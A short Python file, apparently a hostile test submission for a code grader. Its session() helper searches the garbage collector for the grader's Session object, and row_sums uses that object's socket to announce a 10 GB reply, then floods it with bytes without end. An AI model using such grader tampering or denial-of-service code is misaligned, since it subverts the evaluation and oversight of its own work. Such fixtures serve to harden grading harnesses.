"""Declares a reply of 10 GB, and sends as much of it as is taken."""
# kind: reply
# costs: exercise row_sums
# passes: double shrink

# %%
import gc


# %%
def session():
    """The object that speaks with the grader."""
    gc.unfreeze()
    return next(thing for thing in gc.get_objects() if type(thing).__name__ == "Session")


# %%
def double(x):
    return x + x


# %%
def row_sums(x):
    data = session()._data
    data.sendall((64).to_bytes(8, "big") + (10**10).to_bytes(8, "big"))
    while True:
        data.sendall(bytes(1 << 20))


# %%
def shrink(x, n):
    greatest = x.max().item()
    x /= n
    return greatest
